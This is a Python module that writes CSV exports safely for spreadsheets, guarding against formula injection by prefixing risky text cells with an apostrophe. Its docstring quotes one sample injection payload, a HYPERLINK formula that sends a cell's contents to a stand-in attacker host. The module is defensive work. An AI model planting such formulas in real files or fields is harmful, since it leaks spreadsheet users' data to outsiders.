"""CSV for spreadsheets: the one writer every export goes through.

RFC 4180 as spreadsheets read it: CRLF line ends, UTF-8 without a byte-order mark,
numbers as plain numbers, a missing value as an empty cell. Text is the one danger: a
cell that begins with ``= + - @`` (or a tab or carriage return, which some spreadsheets
skip before looking) is run as a formula when the file is opened, so a player named
``=HYPERLINK("//ev.il/"&A2,"x")`` could reach out of the facilitator's spreadsheet.
Such text is written with a leading apostrophe, which spreadsheets show as text and do
not display. Numbers are never text here, so a negative number stays a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

Cell = str | int | float | None
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe(name) for name in header])
    for row in rows:
        writer.writerow([safe(cell) for cell in row])
    return out.getvalue()


def safe(cell: Cell) -> str | int | float:
    """A cell as written: text that a spreadsheet would run is made plain text."""
    if cell is None:
        return ""
    if isinstance(cell, str):
        return "'" + cell if cell.startswith(FORMULA_START) else cell
    return cell
